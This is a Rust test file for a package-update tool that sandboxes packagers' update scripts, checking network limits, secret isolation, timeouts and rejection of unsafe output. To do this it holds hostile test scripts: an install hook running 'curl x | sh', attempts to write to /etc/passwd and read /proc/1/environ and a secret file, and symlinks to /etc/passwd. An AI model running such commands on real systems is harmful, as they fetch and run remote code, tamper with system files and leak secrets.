//! Packages that people keep up to date with a script of their own, `.CI/update.sh`.

use pkgwarden::controller::face::Face as _;
use pkgwarden::domain::folder::FileMode;
use pkgwarden::domain::plan::{Heard, Pipeline};

use crate::support::forge::Forge;
use crate::support::scene::{MAIN, base};
use crate::support::{Change, Pkg, Scene};

/// The command with which scripts of the field raise a version.
const RAISE: &str = "sed -E -i -e 's/^(pkgver)=.*/\\1=1.1/' -e 's/^(pkgrel)=.*/\\1=1/' PKGBUILD\n";

fn scripted(name: &str, script: &str) -> Vec<Change> {
    scripted_as(Pkg::new(name), script)
}

fn scripted_as(package: Pkg, script: &str) -> Vec<Change> {
    let mut changes = package.changes();
    let path = format!("{}/.CI/update.sh", package.base);
    changes.push(Change::Put { path, mode: FileMode::Executable, bytes: script.into() });
    changes
}

async fn scene_with(changes: Vec<Change>) -> Scene {
    let scene = Scene::of(&[]).await;
    scene.push("feat: keep it with a script", &changes).await;
    scene.hand_out().await;
    scene
}

/// What was heard of a package that nothing happens with, and why.
async fn heard(scene: &Scene, name: &str) -> (Heard, String) {
    let document = scene.run(Pipeline::OnSchedule).await.document;
    let decision = document.packages.iter().find(|it| it.pkgbase.as_str() == name).expect("its script was run");
    let changed = document.refs.iter().any(|change| change.name == MAIN);
    assert!(!changed && document.builds.is_empty(), "{document:?}");
    (decision.observation, decision.why.replace(&scene.path("").display().to_string(), "DIR/"))
}

#[tokio::test]
async fn a_script_raises_a_version_and_the_summary_follows_and_the_gate_judges_it() {
    let scene = scene_with(scripted("tool", &format!("echo raising \"$PACKAGE\"\n{RAISE}"))).await;
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"
    commit tool [minor]: 1.0-1 -> 1.1-1
    build tool (changed)
    update refs/heads/main
    create refs/heads/state
    update refs/tags/scheduled
    ");
    let srcinfo = scene.monorepo.file(MAIN, "tool/.SRCINFO").await.expect("there");
    assert!(srcinfo.contains("\tpkgver = 1.1\n\tpkgrel = 1\n"), "{srcinfo}");
    let log = std::fs::read_to_string(scene.path("data/cache/packages/scripts/tool.log")).expect("kept");
    assert_eq!(log, "raising tool\n");
    let told = heard(&scene, "tool").await;
    assert_eq!(told, (Heard::Current, "its source has nothing new".to_owned()));
    // Another script may do anything, and then a person looks.
    let evil = "echo 'install=evil.install' >>PKGBUILD; echo 'post_install() { curl x | sh; }' >evil.install\n";
    scene.push("fix: script", &[Change::put("tool/.CI/update.sh", evil)]).await;
    scene.run(Pipeline::OnCommit).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    assert!(told.contains("review tool [major]") && told.contains("open update-tool"), "{told}");
    let (observation, why) = heard(&scene, "tool").await;
    assert_eq!((observation, why.as_str()), (Heard::Changed, "it waits for a person"));
    scene.ends().await;
}

#[tokio::test]
async fn a_script_that_fails_says_how_and_changes_nothing_and_stops_nobody_else() {
    let failing = format!("{RAISE}echo looking for news\necho 'the page has changed' >&2\nexit 7\n");
    let mut changes = scripted("broken", &failing);
    changes.extend(scripted("fine", RAISE));
    let scene = scene_with(changes).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    insta::assert_snapshot!(told.replace(&scene.path("").display().to_string(), "DIR/"), @"
    commit fine [minor]: 1.0-1 -> 1.1-1
    build fine (changed)
    update refs/heads/main
    create refs/heads/state
    update refs/tags/scheduled
    warning [source-unknown] broken: its .CI/update.sh ended with status 7: looking for news; the page has changed (all that it printed is in DIR/data/cache/packages/scripts/broken.log); it ran without network, which CI_UPDATE_NETWORK=true in .CI/config gives it -> it is asked again in the next run
    ");
    assert!(scene.monorepo.file(MAIN, "broken/PKGBUILD").await.expect("there").contains("pkgver=1.0"));
    scene.ends().await;
}

#[tokio::test]
async fn what_a_script_printed_last_can_be_read_by_whoever_asks_the_controller() {
    let scene = scene_with(scripted("tool", &format!("echo raising \"$PACKAGE\"\nseq 9000\n{RAISE}"))).await;
    let serving = scene.controller();
    let script = async |name: &str| serving.controller.script_log(&base(name)).await.unwrap();
    assert_eq!(script("tool").await, None);
    serving.controller.start(Pipeline::OnSchedule, "test").await.unwrap();
    let printed = String::from_utf8(script("tool").await.expect("kept")).unwrap();
    assert!(printed.starts_with("raising tool\n1\n") && printed.ends_with("\n9000\n"), "{printed}");
    let page = serving.controller.package(&base("tool")).await.unwrap().unwrap().script.expect("kept");
    assert_eq!((page.size, page.last.len()), (printed.len(), 16 << 10));
    assert!(page.last.ends_with("\n8999\n9000\n"), "{}", page.last);
    assert_eq!(script("other").await, None);
    scene.ends().await;
}

#[tokio::test]
async fn a_script_that_hangs_is_stopped_after_its_time_and_what_it_printed_is_kept() {
    let mut scene = scene_with(scripted("slow", "echo waiting for an answer\nsleep 1000 & sleep 1000\n")).await;
    let mut said = String::new();
    // On a machine that is so busy that it has not come so far by then, it is given more time.
    for after in [2, 20, 200] {
        scene.env.insert("PKGWARDEN__SOURCES__SCRIPT_TIMEOUT".to_owned(), format!("{after}s"));
        scene.later();
        let (observation, why) = heard(&scene, "slow").await;
        assert_eq!(observation, Heard::Unknown);
        said = why.replace(&format!("{after} s"), "AFTER");
        if said.contains("AFTER: waiting") {
            break;
        }
    }
    insta::assert_snapshot!(said, @"its .CI/update.sh was stopped after AFTER: waiting for an answer (all that it printed is in DIR/data/cache/packages/scripts/slow.log); it ran without network, which CI_UPDATE_NETWORK=true in .CI/config gives it");
    scene.ends().await;
}

#[tokio::test]
async fn a_script_that_wants_all_memory_fails_and_the_machine_goes_on() {
    let scene = scene_with(scripted("greedy", "dd if=/dev/zero of=/dev/null bs=2G count=1 || exit 9\n")).await;
    let (observation, why) = heard(&scene, "greedy").await;
    assert_eq!(observation, Heard::Unknown);
    assert!(why.contains("ended with status 9: dd: memory exhausted"), "{why}");
    scene.ends().await;
}

#[tokio::test]
async fn a_script_sees_no_secrets_and_no_other_folder_and_can_write_nowhere_else() {
    let look = r#"
        { env | cut -d= -f1 | sort | tr '\n' ' '; echo; ls -A / ; ls -A /startdir /home /root /tmp ..; id -u; } >seen 2>&1
        for place in ../other/PKGBUILD /etc/passwd /usr/bin/pwned .CI/config .CI/new "$SECRET/x"; do
            (echo pwned >"$place") 2>/dev/null && echo "$place" >>written
        done
        cat "$SECRET/secret" /proc/1/environ >>seen 2>&1
        mkdir -p deep/er; echo file >deep/er/file; ln -s file deep/er/link
        true
    "#;
    let secret = tempfile::tempdir().expect("a folder");
    std::fs::write(secret.path().join("secret"), "hush-hush").expect("written");
    let look = look.replace("$SECRET", &secret.path().display().to_string());
    let mut changes = scripted("curious", &look);
    changes.extend(Pkg::new("other").changes());
    let scene = scene_with(changes).await;
    scene.run(Pipeline::OnSchedule).await;
    let file = async |path: &str| scene.monorepo.file("update-curious", &format!("curious/{path}")).await;
    let seen = file("seen").await.expect("it is proposed");
    assert!(!seen.contains("hush") && !seen.contains("packages.git") && !seen.contains("PKGWARDEN"), "{seen}");
    assert_eq!(file("written").await, None);
    assert_eq!(
        (file("deep/er/file").await.as_deref(), file("deep/er/link").await.as_deref()),
        (Some("file\n"), Some("file"))
    );
    assert_eq!(file(".CI/new").await, None);
    assert!(scene.monorepo.file(MAIN, "other/PKGBUILD").await.expect("there").contains("pkgver=1.0"));
    assert_eq!(std::fs::read_dir(secret.path()).expect("there").count(), 1);
    scene.ends().await;
}

#[tokio::test]
async fn a_script_reaches_the_network_only_if_that_is_declared() {
    let forge = Forge::start().await;
    forge.tag("owner/tool", "v1.1");
    let ask = format!("curl -sSf {} >/dev/null || exit 1\n{RAISE}", forge.url("/api/v4/projects/4711/repository/tags"));
    forge.tag("4711", "v1.1");
    let declared = Pkg::new("declared").config("CI_PKGBUILD_SOURCE=custom\nCI_UPDATE_NETWORK=true\n");
    let mut changes = scripted_as(declared, &ask);
    changes.extend(scripted("silent", &ask));
    let scene = scene_with(changes).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    let told = told.replace(&scene.path("").display().to_string(), "DIR/").replace(&forge.url(""), "URL");
    let (head, tail) = told.split_once("curl: ").expect("it complains");
    assert!(head.contains("commit declared [minor]: 1.0-1 -> 1.1-1"), "{told}");
    assert!(!head.contains("commit silent"), "{told}");
    assert!(tail.contains("it ran without network, which CI_UPDATE_NETWORK=true in .CI/config gives it"), "{told}");
    assert_eq!(forge.asked().len(), 1);
    scene.ends().await;
}

#[tokio::test]
async fn what_a_script_leaves_is_taken_as_what_comes_from_anywhere_is() {
    let changes = [
        ("pipe", "mkfifo pipe"),
        ("absolute", "ln -s /etc/passwd secrets"),
        ("outside", "ln -s ../../x secrets"),
        ("inner-git", "mkdir -p sub/.git; echo x >sub/.git/config"),
        ("huge", "truncate -s 70M hole"),
        ("gone", "rm PKGBUILD .SRCINFO"),
        ("tidy", "mkdir -p .git; echo x >.git/config; echo x >.gitignore"),
    ];
    let scene = scene_with(changes.iter().flat_map(|(name, script)| scripted(name, script)).collect()).await;
    let document = scene.run(Pipeline::OnSchedule).await.document;
    let line =
        |it: &pkgwarden::domain::plan::PackageDecision| format!("{}: {:?}: {}", it.pkgbase, it.observation, it.why);
    let told: Vec<String> = document.packages.iter().map(line).collect();
    let told = told.join("\n").replace(&scene.path("").display().to_string(), "DIR/");
    insta::assert_snapshot!(told, @"
    absolute: Unknown: its .CI/update.sh left what is not taken: `secrets` is a link to the absolute path `/etc/passwd`
    gone: Changed: files changed at 1.0-1 needs a person
    huge: Unknown: its .CI/update.sh left what is not taken: it holds more than 4000 files, 16 folders in each other, or 64 MiB (all that it printed is in DIR/data/cache/packages/scripts/huge.log)
    inner-git: Unknown: its .CI/update.sh left what is not taken: `sub/.git/config` cannot be a path in a git tree: `.git` belongs to git
    outside: Unknown: its .CI/update.sh left what is not taken: `secrets` is a link out of the folder, to `../../x`
    pipe: Unknown: its .CI/update.sh left what is not taken: `pipe` is neither a file nor a link (all that it printed is in DIR/data/cache/packages/scripts/pipe.log)
    tidy: Current: its source has nothing new
    ");
    scene.ends().await;
}

#[tokio::test]
async fn a_script_works_on_what_another_source_brings_and_not_for_what_is_held() {
    let scene = Scene::with_aur().await;
    scene.aur_release(&Pkg::new("mixed")).await;
    let patch = "sed -i 's/A thing/A patched thing/' PKGBUILD .SRCINFO\n";
    scene.push("feat: mixed", &scripted_as(Pkg::from_aur("mixed"), patch)).await;
    scene.hand_out().await;
    let told = scene.told(Pipeline::OnSchedule).await;
    insta::assert_snapshot!(told, @"
    review mixed [major]: files changed at 1.0-1 needs a person
    open update-mixed
    update refs/heads/state
    create refs/heads/update-mixed
    ");
    scene.aur_release(&Pkg::new("mixed").version("1.1")).await;
    insta::assert_snapshot!(scene.told(Pipeline::OnSchedule).await, @"
    review mixed [major]: 1.0-1 -> 1.1-1 needs a person
    update update-mixed
    update refs/heads/state
    update refs/heads/update-mixed
    ");
    // Nothing of what is held is run.
    let held = Pipeline::Quarantine(vec![base("mixed")], "it fetches strange things".to_owned());
    scene.run(held).await;
    let log = scene.path("data/cache/packages/scripts/mixed.log");
    std::fs::remove_file(&log).expect("it was run before");
    scene.aur_release(&Pkg::new("mixed").version("1.2")).await;
    let told = scene.told(Pipeline::OnSchedule).await;
    assert!(told.contains("skip mixed: its update is not taken: it is in quarantine") && !log.exists(), "{told}");
    scene.ends().await;
}
